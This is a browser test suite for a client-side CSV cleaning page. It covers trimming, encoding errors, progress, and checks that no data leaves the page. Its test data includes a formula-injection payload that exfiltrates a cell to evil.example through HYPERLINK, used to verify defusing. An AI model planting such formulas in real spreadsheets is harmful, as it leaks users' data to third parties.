// End-to-end tests of the crm-cleaner page (www/) in Debian's Chromium.
//
//   cd tests/browser && node --test --test-concurrency=1 *.test.mjs
//
// Every expected value is computed here, independently of the Rust core:
// the input is generated field by field, and the expected cleaned CSV is
// serialized from those fields with our own trim and RFC 4180 quoting.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import { serve } from './server.mjs';
import { launch, openPage } from './browser.mjs';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const REPO = path.resolve(HERE, '../..');
const SCREENSHOTS = path.join(REPO, 'target', 'screenshots');

const CSP =
  "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; img-src 'self' data: blob:; " +
  "style-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'";

let server;
let browser;

before(async () => {
  server = await serve();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await server?.close();
});

// ------------------------------------------------------------------ helpers

/** Opens the page and waits until app.js has run. */
async function open(options) {
  const session = await openPage(browser, options);
  await session.page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });
  await session.page.goto(server.url);
  await session.page.waitForFunction(() => typeof window.__crmProgressCount === 'number');
  return session;
}

/** Chooses `file` in #file and waits for that run to end; returns what the page shows. */
async function runFile(page, file, { timeout = 30_000 } = {}) {
  const run = Number(await page.getAttribute('body', 'data-run'));
  await page.setInputFiles('#file', file);
  await page.waitForFunction(
    (n) => {
      const b = document.body;
      return Number(b.dataset.run) === n && (b.dataset.state === 'done' || b.dataset.state === 'error');
    },
    run + 1,
    { timeout, polling: 50 },
  );
  return readResult(page);
}

function readResult(page) {
  return page.evaluate(() => {
    const $ = (id) => document.getElementById(id);
    const fields = {};
    const texts = {};
    for (const el of document.querySelectorAll('#summary [data-field]')) {
      fields[el.dataset.field] = el.dataset.value === undefined ? null : el.dataset.value;
      texts[el.dataset.field] = el.textContent.trim();
    }
    const link = $('download');
    return {
      state: document.body.dataset.state,
      error: $('error').textContent.trim(),
      errorVisible: $('error').getBoundingClientRect().height > 0,
      summaryVisible: !$('summary').hidden,
      fields,
      texts,
      notices: [...document.querySelectorAll('#notices li')].map((li) => li.textContent.trim()),
      noticesVisible: !$('notices-block').hidden,
      problems: [...document.querySelectorAll('#problems li')].map((li) => ({
        line: Number(li.dataset.line),
        kind: li.dataset.kind,
        // "Line N", the message and the raw text, one space between each.
        text: [...li.querySelectorAll('.line, p, code')].map((e) => e.textContent.trim()).join(' '),
        raw: li.querySelector('code')?.textContent ?? null,
      })),
      headerFixes: [...document.querySelectorAll('#header-fixes li')].map((li) => li.textContent.trim()),
      download: { name: link.getAttribute('download'), href: link.getAttribute('href'), text: link.textContent.trim() },
    };
  });
}

/** Clicks the download link and returns { name, bytes }. */
async function download(page) {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#download')]);
  const file = await dl.path();
  return { name: dl.suggestedFilename(), bytes: await readFile(file) };
}

/** Waits until the page has no dedicated worker left (each job's worker is terminated). */
async function expectNoWorkers(page) {
  const deadline = Date.now() + 5000;
  while (page.workers().length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  assert.equal(page.workers().length, 0, 'the worker of a finished job must be terminated');
}

/** Unicode White_Space, the set Rust's str::trim removes (JS's trim differs on U+FEFF and U+0085). */
const WS = '\t\n\u000B\f\r \u0085\u00A0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200A\u2028\u2029\u202F\u205F\u3000';
function trim(s) {
  let a = 0;
  let b = s.length;
  while (a < b && WS.includes(s[a])) a++;
  while (b > a && WS.includes(s[b - 1])) b--;
  return s.slice(a, b);
}

/** RFC 4180 field: quoted only when it holds the delimiter, a quote, CR or LF. */
function csvField(s) {
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

function csvRecord(fields) {
  return fields.map(csvField).join(',');
}

/**
 * OWASP CSV-injection defence as the README specifies it: a cell starting with
 * =, +, -, @, tab or CR gets a leading ', unless it is plainly a number or a
 * phone number (+ then a digit or '(', then only digits, spaces, - . ( )).
 */
function defuse(cell) {
  if (!/^[=+\-@\t\r]/.test(cell)) return cell;
  if (/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell)) return cell;
  if (/^\+[\d(][\d\s\-.()]*$/.test(cell)) return cell;
  return `'${cell}`;
}

/** Deterministic pseudo-random numbers (mulberry32). */
function rng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const EN_FIRST = ['Ann', 'James', 'Mary', 'Robert', 'Linda', 'Michael', 'Sarah', 'David', 'Emma', 'Oliver', 'Grace', 'Henry'];
const EN_LAST = ['Smith', 'Johnson', 'Brown', 'Taylor', 'Wilson', 'Davies', 'Evans', 'Thomas', 'Roberts', 'Walker'];
const ZH_SURNAME = ['王', '李', '张', '刘', '陈', '杨', '黄', '赵', '吴', '周', '欧阳'];
const ZH_GIVEN = ['伟', '芳', '娜', '秀英', '敏', '静', '丽', '强', '磊', '军', '晓明', '子怡'];
const CITIES = ['London', 'Paris', 'New York', 'Berlin', 'Sydney', '北京', '上海', '深圳', '广州', '杭州'];
const PADS = ['', '', '', '', ' ', '  ', '\t', '\u3000', '\u00A0', ' \t ', '\u2003'];

/**
 * The happy-path input: 2,000 data rows, CRLF line ends, a padded header,
 * English and Chinese names, padded cells, quoted fields with a comma, quotes
 * and line breaks, a whitespace-only cell, a short row and a too-long row.
 * Returns the input bytes and everything the page should report.
 */
function happyPathCase() {
  const rand = rng(20240611);
  const pick = (list) => list[Math.floor(rand() * list.length)];
  const pad = (s) => pick(PADS) + s + pick(PADS);

  const header = ['id', ' name', 'email', ' city ', 'note'];
  const width = header.length;
  const rows = [];
  for (let i = 1; i <= 2000; i++) {
    const chinese = rand() < 0.4;
    const name = chinese ? pick(ZH_SURNAME) + pick(ZH_GIVEN) : `${pick(EN_FIRST)} ${pick(EN_LAST)}`;
    const email = chinese ? `zh.user${i}@example.cn` : `${name.toLowerCase().replace(' ', '.')}${i}@example.com`;
    rows.push([String(i), pad(name), pad(email), pad(pick(CITIES)), i % 7 === 0 ? pad('VIP customer') : '']);
  }
  rows[4][4] = '  Li, Wei said "call me back" ';
  rows[8][4] = 'first line\nsecond line  ';
  rows[12][4] = '\u3000line one\r\nline two';
  rows[15][1] = '   ';
  rows[16] = ['17', '  张伟 ', 'zhang.wei@example.cn']; // short: padded, reported
  rows[20] = ['21', 'Too Long', 'too.long@example.com', 'Paris', 'note', 'EXTRA-FIELD']; // rejected
  rows[30][3] = ' São Paulo, SP '; // comma inside a padded quoted field
  // Formula injection: defused on export, unless a plain number or phone number.
  rows[40][4] = ' =HYPERLINK("http://evil.example/?leak="&B2, "click") ';
  rows[41][4] = '@SUM(A1:A9)';
  rows[42][4] = '-12.5';
  rows[43][4] = ' +86 138 0013 8000 ';
  rows[44][4] = '+1 (415) 555-0100';
  rows[45][4] = '-not a number';

  const lineBreak = '\r\n';
  let text = csvRecord(header) + lineBreak;
  const lineOf = []; // 1-based input line on which each data row starts
  let line = 1 + 1;
  for (const row of rows) {
    lineOf.push(line);
    const record = csvRecord(row);
    text += record + lineBreak;
    line += 1 + (record.match(/\r\n|\r|\n/g) || []).length;
  }

  const kept = rows.filter((r) => r.length <= width);
  const rejected = rows.length - kept.length;
  let cellsChanged = 0;
  let formulas = 0;
  const outRows = kept.map((row) => {
    const cells = [];
    for (let c = 0; c < width; c++) {
      const cell = row[c] ?? '';
      if (trim(cell) !== cell) cellsChanged++;
      const out = defuse(trim(cell));
      if (out !== trim(cell)) formulas++;
      cells.push(out);
    }
    return cells;
  });
  const outHeader = header.map(trim);
  const body = [outHeader, ...outRows].map((r) => csvRecord(r) + '\n').join('');
  const expected = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(body, 'utf8')]);

  // Values that must never show up in a request: every distinctive cell.
  const secrets = new Set();
  for (const row of rows) {
    for (const cell of row) {
      const t = trim(cell);
      if (t.length >= 4 && !/^[\d\s.,-]+$/.test(t)) secrets.add(t);
      if (/[\u4e00-\u9fff]/.test(t)) secrets.add(t); // Chinese names are short but distinctive
    }
  }

  return {
    file: { name: 'contacts.csv', mimeType: 'text/csv', buffer: Buffer.from(text, 'utf8') },
    expected,
    secrets,
    counts: { rows_in: rows.length, rows_out: kept.length, rows_rejected: rejected, columns: width, cells_changed: cellsChanged },
    formulas,
    shortRowRaw: csvRecord(rows[16]),
    shortRowLine: lineOf[16],
    headerFixed: ['name', 'city'],
  };
}

function smallGoodFile(tag) {
  const text = `name,email\n  Ann Smith ,ann@example.com\n王芳, wang.fang@example.cn \n${tag},x@example.com\n`;
  return { name: `good-${tag}.csv`, mimeType: 'text/csv', buffer: Buffer.from(text, 'utf8') };
}

/** Cleans a small good file and checks the page reports it correctly. */
async function expectStillUsable(page, tag) {
  const result = await runFile(page, smallGoodFile(tag));
  assert.equal(result.state, 'done', `page should recover after "${tag}": ${result.error}`);
  assert.equal(result.error, '', 'the previous error is cleared');
  assert.equal(result.fields.rows_in, '3');
  assert.equal(result.fields.rows_out, '3');
  assert.equal(result.fields.cells_changed, '2');
  assert.equal(result.download.name, `good-${tag}.cleaned.csv`);
  const { bytes } = await download(page);
  assert.equal(
    bytes.toString('utf8'),
    `\uFEFFname,email\nAnn Smith,ann@example.com\n王芳,wang.fang@example.cn\n${tag},x@example.com\n`,
  );
  await expectNoWorkers(page);
}

// ------------------------------------------------------------------ tests

test('the page loads under its strict CSP and is accessible by keyboard', { timeout: 30_000 }, async () => {
  const { page, errors, close } = await open();
  try {
    assert.equal(await page.title(), 'crm-cleaner');
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert.equal(csp, CSP);
    assert.equal(await page.locator('script:not([src])').count(), 0, 'no inline scripts');
    assert.equal(await page.locator('[style]').count(), 0, 'no inline style attributes');
    assert.match(await page.textContent('body'), /never leaves this computer/);

    // The file input is labelled and restricted to CSV/text.
    assert.equal(await page.getAttribute('#file', 'accept'), '.csv,.txt,text/csv');
    assert.equal(await page.textContent('label[for="file"]'), 'CSV file to clean');
    assert.equal(await page.getAttribute('#error', 'role'), 'alert');

    // The drop zone is reachable with Tab and opens the file chooser with Enter
    // or Space. (The chooser itself is stubbed: waiting for Playwright's
    // 'filechooser' event races with the key press and made this test flaky.)
    await page.evaluate(() => {
      window.__chooserOpened = 0;
      document.getElementById('file').click = () => {
        window.__chooserOpened += 1;
      };
    });
    await page.keyboard.press('Tab'); // skip link
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'drop');
    await page.keyboard.press('Enter');
    await page.keyboard.press(' ');
    assert.equal(await page.evaluate(() => window.__chooserOpened), 2);
    await page.click('#drop');
    assert.equal(await page.evaluate(() => window.__chooserOpened), 3);
    assert.equal(await page.getAttribute('#file', 'multiple'), null);

    // No horizontal scrolling on a phone-sized screen.
    await page.setViewportSize({ width: 360, height: 740 });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.equal(overflow, 0, 'no horizontal overflow at 360 px');

    assert.deepEqual(await page.evaluate(() => window.__cspViolations), []);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('happy path: 2,000 rows are cleaned, summarised and downloaded, nothing leaves the page', { timeout: 60_000 }, async () => {
  const c = happyPathCase();
  const { page, requests, errors, close } = await open();
  try {
    const result = await runFile(page, c.file);
    assert.equal(result.state, 'done', result.error);
    assert.equal(result.error, '');
    assert.ok(result.summaryVisible);

    const numbers = Object.fromEntries(
      ['rows_in', 'rows_out', 'rows_rejected', 'columns', 'cells_changed'].map((k) => [k, Number(result.fields[k])]),
    );
    assert.deepEqual(numbers, c.counts);
    assert.equal(result.texts.rows_in, '2,000');
    assert.equal(result.fields.encoding, 'UTF-8');
    assert.equal(Number(result.fields.formula_cells_neutralized), c.formulas);
    assert.equal(c.formulas, 3, 'the test data has three formula cells');
    assert.ok(Number(result.fields.time) >= 0, 'time taken is recorded');
    assert.match(result.texts.time, /^\d+(\.\d+)? (ms|s)$/);

    // The short row is reported with its input line; the padded headers are listed.
    assert.equal(result.problems.length, 1);
    assert.equal(result.problems[0].line, c.shortRowLine);
    assert.equal(result.problems[0].kind, 'row.too_few_fields');
    assert.match(result.problems[0].text, new RegExp(`^Line ${c.shortRowLine}\\b.*padded`));
    assert.equal(result.problems[0].raw, c.shortRowRaw, 'the problem shows the raw row');
    assert.equal(result.headerFixes.length, 2);
    for (const name of c.headerFixed) assert.ok(result.headerFixes.some((t) => t.endsWith(`→ ${name}`)), name);
    assert.equal(result.notices.length, 1, result.notices.join('\n'));
    assert.match(result.notices[0], /^3 cells start with =, \+, - or @/);

    // The download is exactly the CSV we expect, byte for byte.
    assert.match(result.download.href, /^blob:/);
    const { name, bytes } = await download(page);
    assert.equal(name, 'contacts.cleaned.csv');
    assert.equal(bytes.subarray(0, 3).toString('hex'), 'efbbbf', 'BOM because the data has Chinese text');
    if (!bytes.equals(c.expected)) {
      const got = bytes.toString('utf8').split('\n');
      const want = c.expected.toString('utf8').split('\n');
      const i = got.findIndex((l, k) => l !== want[k]);
      assert.fail(`cleaned CSV differs at output line ${i + 1}:\n  got  ${JSON.stringify(got[i])}\n  want ${JSON.stringify(want[i])}`);
    }

    await mkdir(SCREENSHOTS, { recursive: true });
    await page.screenshot({ path: path.join(SCREENSHOTS, 'happy-path.png'), fullPage: true });
    await page.setViewportSize({ width: 390, height: 844 });
    await page.screenshot({ path: path.join(SCREENSHOTS, 'happy-path-narrow.png'), fullPage: true });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.equal(overflow, 0, 'no horizontal overflow at 390 px with a summary shown');

    await expectNoWorkers(page);

    // Every request went to the page's own origin, the recorder saw the
    // worker's requests too, and no cell value was sent anywhere.
    const origin = new URL(server.url).origin;
    const paths = new Set();
    for (const r of requests) {
      const url = new URL(r.url);
      assert.equal(url.origin, origin, `request to a foreign origin: ${r.url}`);
      if (url.protocol.startsWith('http')) paths.add(url.pathname);
    }
    for (const p of ['/', '/app.js', '/style.css', '/worker.js', '/pkg/crm_cleaner.js', '/pkg/crm_cleaner_bg.wasm']) {
      assert.ok(paths.has(p), `expected a request for ${p}; saw ${[...paths].join(' ')}`);
    }
    for (const p of server.requests) assert.ok(paths.has(p), `server saw ${p} but the recorder did not`);
    assert.ok(requests.every((r) => r.method === 'GET'), 'only GET requests');
    for (const r of requests) {
      const haystack = decodeURIComponent(r.url) + (r.postData ? r.postData.toString('utf8') : '');
      for (const secret of c.secrets) assert.ok(!haystack.includes(secret), `cell value ${JSON.stringify(secret)} in request ${r.url}`);
    }

    assert.deepEqual(await page.evaluate(() => window.__cspViolations), []);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('bad input gets clear errors and the page stays usable after each', { timeout: 90_000 }, async () => {
  const { page, errors, close } = await open();
  try {
    // An empty file.
    let r = await runFile(page, { name: 'empty.csv', mimeType: 'text/csv', buffer: Buffer.alloc(0) });
    assert.equal(r.state, 'error');
    assert.match(r.error, /empty/i);
    assert.ok(r.errorVisible);
    assert.ok(!r.summaryVisible);
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-empty');

    // A PNG image renamed to .csv.
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('0000000d49484452000000010000000108060000001f15c489', 'hex'),
      Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37 + 11) & 0xff)),
    ]);
    r = await runFile(page, { name: 'photo.csv', mimeType: 'text/csv', buffer: png });
    assert.equal(r.state, 'error');
    assert.match(r.error, /PNG/);
    assert.match(r.error, /photo\.csv/);
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-png');

    // Invalid UTF-8 on line 3 of a file whose first MiB (the encoding
    // sample) is valid UTF-8: the bad bytes are replaced and reported with
    // their line; the run goes on (the core never stops on bad bytes).
    const longNote = 'long note '.repeat(110_000); // 1.1 MB on line 2
    const lateBad = Buffer.concat([
      Buffer.from(`name,note\nAnn,${longNote}\nBob,`),
      Buffer.from([0xff, 0xfe, 0x41]),
      Buffer.from('\nCid,fine\n'),
    ]);
    r = await runFile(page, { name: 'broken-utf8.csv', mimeType: 'text/csv', buffer: lateBad });
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.encoding, 'UTF-8');
    assert.equal(r.fields.rows_in, '3');
    const malformed = r.problems.find((p) => p.kind === 'encoding.malformed');
    assert.ok(malformed, `an encoding problem is listed: ${JSON.stringify(r.problems)}`);
    assert.equal(malformed.line, 3);
    assert.match(malformed.text, /^Line 3\b.*not valid UTF-8/);
    const cleaned = (await download(page)).bytes.toString('utf8');
    assert.ok(cleaned.endsWith('\nBob,\uFFFD\uFFFDA\nCid,fine\n'), JSON.stringify(cleaned.slice(-40)));
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-late-bad-utf8');

    // A short file with invalid UTF-8 on line 3. Auto-detection may take it
    // for a legacy encoding; then the page must say which one it guessed.
    const bad = Buffer.concat([Buffer.from('name,city\nAnn,Paris\nBob,'), Buffer.from([0xff, 0xfe, 0x41]), Buffer.from('\nCid,Rome\n')]);
    const badFile = { name: 'mixed.csv', mimeType: 'text/csv', buffer: bad };
    r = await runFile(page, badFile);
    assert.equal(r.state, 'done', r.error);
    if (r.fields.encoding === 'UTF-8') {
      assert.ok(r.problems.some((p) => p.line === 3), JSON.stringify(r.problems));
    } else {
      assert.ok(r.notices.some((n) => n.includes(`detected as ${r.fields.encoding}`)), JSON.stringify(r.notices));
    }
    // Told that the file is UTF-8, the page reports the bad bytes on line 3.
    await page.click('#options summary');
    await page.selectOption('#opt-encoding', 'utf-8');
    r = await runFile(page, badFile);
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.encoding, 'UTF-8');
    assert.deepEqual(r.problems.map((p) => [p.line, p.kind]), [[3, 'encoding.malformed']]);
    assert.match(r.problems[0].text, /^Line 3\b/);
    assert.ok(!r.notices.some((n) => /detected as/.test(n)), 'no guess to warn about when the encoding is chosen');
    await page.selectOption('#opt-encoding', '');
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-utf8');

    // A header with no rows: a notice, not an error.
    r = await runFile(page, { name: 'header-only.csv', mimeType: 'text/csv', buffer: Buffer.from('name,email,phone\n') });
    assert.equal(r.state, 'done');
    assert.equal(r.error, '');
    assert.ok(!r.errorVisible);
    assert.equal(r.fields.rows_in, '0');
    assert.equal(r.fields.columns, '3');
    assert.ok(r.noticesVisible);
    assert.match(r.notices.join('\n'), /no data rows/i);
    assert.equal((await download(page)).bytes.toString('utf8'), 'name,email,phone\n');
    await expectStillUsable(page, 'after-header-only');

    // 20 MB without a single line break: one giant header name.
    const started = Date.now();
    r = await runFile(page, { name: 'one-line.csv', mimeType: 'text/csv', buffer: Buffer.alloc(20e6, 'x') }, { timeout: 30_000 });
    if (r.state === 'error') {
      assert.ok(r.error.length > 20, `a clear message, got ${JSON.stringify(r.error)}`);
    } else {
      assert.equal(r.fields.rows_in, '0');
      assert.equal(r.fields.columns, '1');
      assert.match(r.notices.join('\n'), /no data rows/i);
    }
    await expectStillUsable(page, 'after-20mb-header');

    // A header plus one 20 MB field, no final line break.
    const huge = Buffer.concat([Buffer.from('id,blob\n1,  '), Buffer.alloc(20e6, 'y')]);
    r = await runFile(page, { name: 'huge-field.csv', mimeType: 'text/csv', buffer: huge }, { timeout: 30_000 });
    if (r.state === 'error') {
      assert.ok(r.error.length > 20, `a clear message, got ${JSON.stringify(r.error)}`);
    } else {
      assert.equal(r.fields.rows_in, '1');
      assert.equal(r.fields.rows_out, '1');
      assert.equal(r.fields.cells_changed, '1');
      const { bytes } = await download(page);
      assert.equal(bytes.length, 'id,blob\n1,'.length + 20e6 + 1);
      assert.equal(bytes.subarray(0, 10).toString(), 'id,blob\n1,');
      assert.equal(bytes.subarray(-2).toString(), 'y\n');
    }
    assert.ok(Date.now() - started < 60_000, 'the 20 MB files did not hang');
    await expectStillUsable(page, 'after-20mb-field');

    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('a worker that fails to start is reported and the next file still works', { timeout: 30_000 }, async () => {
  const { page, context, close } = await open();
  try {
    await context.route('**/worker.js', (route) => route.fulfill({ status: 404, contentType: 'text/plain', body: 'gone' }));
    const r = await runFile(page, smallGoodFile('broken-worker'));
    assert.equal(r.state, 'error');
    assert.match(r.error, /cleaner stopped unexpectedly/);
    await context.unroute('**/worker.js');
    await expectStillUsable(page, 'after-worker-error');
  } finally {
    await close();
  }
});

test('reading options are passed to the cleaner and a file can be cleaned again', { timeout: 30_000 }, async () => {
  const { page, errors, close } = await open();
  try {
    const file = { name: 'semicolons.csv', mimeType: 'text/csv', buffer: Buffer.from('name;city\n Ann ;Paris\nBob; Rome\n') };
    let r = await runFile(page, file);
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.columns, '2', 'the semicolon is sniffed');
    assert.match(await page.textContent('#summary-meta'), /semicolon-separated/);
    assert.equal((await download(page)).bytes.toString('utf8'), 'name,city\nAnn,Paris\nBob,Rome\n');

    // Say the first row is data and clean the same file again without choosing it.
    await page.click('#options summary');
    assert.ok(await page.isVisible('#again'));
    await page.selectOption('#opt-header', 'no');
    const run = Number(await page.getAttribute('body', 'data-run'));
    await page.click('#again');
    await page.waitForFunction((n) => Number(document.body.dataset.run) === n && document.body.dataset.state === 'done', run + 1);
    r = await readResult(page);
    assert.equal(r.fields.rows_in, '3');
    assert.match(await page.textContent('#summary-meta'), /no header row/);
    assert.equal((await download(page)).bytes.toString('utf8'), 'column_1,column_2\nname,city\nAnn,Paris\nBob,Rome\n');

    // A comma forced on a semicolon file gives one column.
    await page.selectOption('#opt-header', 'yes');
    await page.selectOption('#opt-delimiter', ',');
    r = await runFile(page, file);
    assert.equal(r.fields.columns, '1');
    assert.match(await page.textContent('#summary-meta'), /comma-separated/);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('choosing a new file while one is being cleaned replaces the first job; cancel stops a job', { timeout: 60_000 }, async () => {
  // 60 MB on disk (more than setInputFiles takes as a buffer), so the first job is surely still running.
  const dir = await mkdtemp(path.join(os.tmpdir(), 'crm-cleaner-'));
  const bigPath = path.join(dir, 'big.csv');
  await writeFile(bigPath, 'a,b\n' + ' 1 ,2\n'.repeat(10_000_000));
  const { page, errors, close } = await open();
  try {
    await page.evaluate(() => {
      window.__states = [];
      new MutationObserver(() => window.__states.push(`${document.body.dataset.run}:${document.body.dataset.state}`)).observe(
        document.body,
        { attributes: true, attributeFilter: ['data-state'] },
      );
    });
    await page.setInputFiles('#file', bigPath);
    await page.waitForFunction(() => /^Reading — /.test(document.getElementById('status').textContent));
    await expectStillUsable(page, 'replacing');
    assert.match(await page.textContent('#summary-name'), /good-replacing\.csv/);
    const states = await page.evaluate(() => window.__states);
    assert.ok(!states.includes('1:done'), `the first job was replaced before it finished: ${states}`);

    // Cancel: the worker goes away, the page is idle and ready for the next file.
    await page.setInputFiles('#file', bigPath);
    await page.waitForFunction(() => /^Reading — /.test(document.getElementById('status').textContent));
    assert.equal(page.workers().length, 1);
    await page.click('#cancel');
    assert.equal(await page.getAttribute('body', 'data-state'), 'idle');
    assert.ok(await page.isHidden('#progress-area'));
    assert.ok(await page.isHidden('#summary'));
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-cancel');
    assert.deepEqual(errors, []);
  } finally {
    await close();
    await rm(dir, { recursive: true, force: true });
  }
});

test('progress is shown while a large file is cleaned', { timeout: 60_000 }, async () => {
  const rand = rng(7);
  const lines = ['id,first_name,last_name,email,city,company'];
  const expected = [lines[0]];
  let rows = 0;
  let size = lines[0].length + 1;
  while (size < 8e6) {
    rows++;
    const first = EN_FIRST[Math.floor(rand() * EN_FIRST.length)];
    const last = EN_LAST[Math.floor(rand() * EN_LAST.length)];
    const email = `${first}.${last}${rows}@example.com`;
    const line = `${rows}, ${first} ,${last},${email},${CITIES[rows % 5]}, Acme Ltd `;
    lines.push(line);
    expected.push(`${rows},${first},${last},${email},${CITIES[rows % 5]},Acme Ltd`);
    size += line.length + 1;
  }
  const buffer = Buffer.from(lines.join('\n') + '\n');

  const { page, errors, close } = await open();
  try {
    // Record every status text and progress value the page displays.
    await page.evaluate(() => {
      window.__statusLog = [];
      const status = document.getElementById('status');
      const progress = document.getElementById('progress');
      new MutationObserver(() => {
        window.__statusLog.push({ text: status.textContent, value: progress.value, t: performance.now() });
      }).observe(status, { childList: true, characterData: true, subtree: true });
    });
    const t0 = Date.now();
    const r = await runFile(page, { name: 'large.csv', mimeType: 'text/csv', buffer });
    const elapsed = Date.now() - t0;
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.rows_in, String(rows));
    assert.equal(r.fields.cells_changed, String(rows * 2));
    // The file arrives in stream chunks of assorted sizes, regrouped into 1 MiB pushes; nothing is lost or doubled.
    const { bytes } = await download(page);
    assert.ok(bytes.equals(Buffer.from(expected.join('\n') + '\n')), 'the cleaned 8 MB file is exactly as expected');

    const count = await page.evaluate(() => window.__crmProgressCount);
    const log = await page.evaluate(() => window.__statusLog);
    assert.ok(count >= 1, 'at least one progress message arrived');
    const reading = log.filter((e) => /^Reading — .* of 7\.\d MB · [\d,]+ rows · \d+ %$/.test(e.text));
    assert.ok(reading.length >= 1, `a reading status was displayed: ${JSON.stringify(log.map((e) => e.text))}`);
    const pcts = reading.map((e) => Number(/(\d+) %$/.exec(e.text)[1]));
    assert.deepEqual(pcts, [...pcts].sort((a, b) => a - b), 'reading progress never goes backwards');
    assert.equal(pcts.at(-1), 100, 'reading ends at 100 %');
    assert.match(reading.at(-1).text, new RegExp(`· ${rows.toLocaleString('en')} rows · 100 %$`), 'the row count is shown');
    assert.ok(log.some((e) => /^Trimming spaces — \d+ %$/.test(e.text)), 'the trim stage is shown');
    assert.match(await page.textContent('#status'), /^Done — /);
    // Throttled: no more than one message per ~100 ms, plus one per stage change.
    assert.ok(count <= Math.ceil(elapsed / 90) + 6, `${count} progress messages in ${elapsed} ms is not throttled`);
    console.log(`# ${(buffer.length / 1e6).toFixed(1)} MB, ${rows} rows: ${count} progress messages, ${reading.length} reading statuses, ${elapsed} ms, shown as ${r.texts.time}`);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});
